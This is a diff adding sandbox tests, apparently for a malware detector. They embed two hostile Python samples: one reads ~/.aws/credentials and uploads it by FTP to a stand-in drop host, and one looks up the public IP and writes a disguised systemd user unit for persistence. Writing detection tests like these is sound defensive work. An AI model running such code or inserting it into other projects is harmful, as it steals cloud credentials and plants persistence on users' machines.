@@ -168,3 +168,40 @@ def test_an_elf_tool_that_prints_and_exits_is_clean(tmp_path):
     tool = shutil.which("uname") or "/bin/uname"
     r = run_sample(tmp_path, Path(tool).read_bytes(), "uname", timeout_s=20)
     assert r["executed"] and r["verdict"] == "clean" and r["findings"] == [], r["findings"]
+
+
+FTP_EXFIL = b"""import ftplib, io, os
+data = open(os.path.expanduser("~/.aws/credentials"), "rb").read()
+f = ftplib.FTP("files.example-drop.test", timeout=10)
+f.login("drop", "hunter2")
+f.storbinary("STOR aws.txt", io.BytesIO(data))
+f.quit()
+"""
+
+
+@pytest.mark.sandbox
+@pytest.mark.skipif(SANDBOX is not None, reason=f"sandbox unavailable: {SANDBOX}")
+def test_python_uploads_decoy_cloud_keys_over_ftp(tmp_path):
+    r = run_sample(tmp_path, FTP_EXFIL, "sync.py", timeout_s=30, stop_on_malicious=False)
+    assert r["verdict"] == "malicious", r["findings"]
+    assert {"credential_access", "exfil_ftp_upload", "combo_credentials_exfil"} <= ids(r)
+    [stor] = [e for e in events(r, "ftp") if e["command"] == "STOR"]
+    assert stor["file"] == "aws.txt" and stor["bytes"] > 50 and stor["user"] == "drop"
+
+
+SYSTEMD_BOT = b"""import json, os, urllib.request
+ip = urllib.request.urlopen("http://api.ipify.org/?format=json", timeout=5).read()
+unit = os.path.expanduser("~/.config/systemd/user/dbus-broker-helper.service")
+os.makedirs(os.path.dirname(unit), exist_ok=True)
+with open(unit, "w") as fh:
+    fh.write("[Service]\\nExecStart=%h/.local/bin/helper\\n[Install]\\nWantedBy=default.target\\n")
+"""
+
+
+@pytest.mark.sandbox
+@pytest.mark.skipif(SANDBOX is not None, reason=f"sandbox unavailable: {SANDBOX}")
+def test_python_public_ip_lookup_and_a_systemd_user_unit(tmp_path):
+    r = run_sample(tmp_path, SYSTEMD_BOT, "agent.py", timeout_s=30, stop_on_malicious=False)
+    assert r["verdict"] == "malicious", r["findings"]
+    assert {"public_ip_lookup", "persistence_systemd", "combo_persistence_c2"} <= ids(r)
+    assert "self_copy" not in ids(r)  # Python reads its script twice: that is no copy of itself
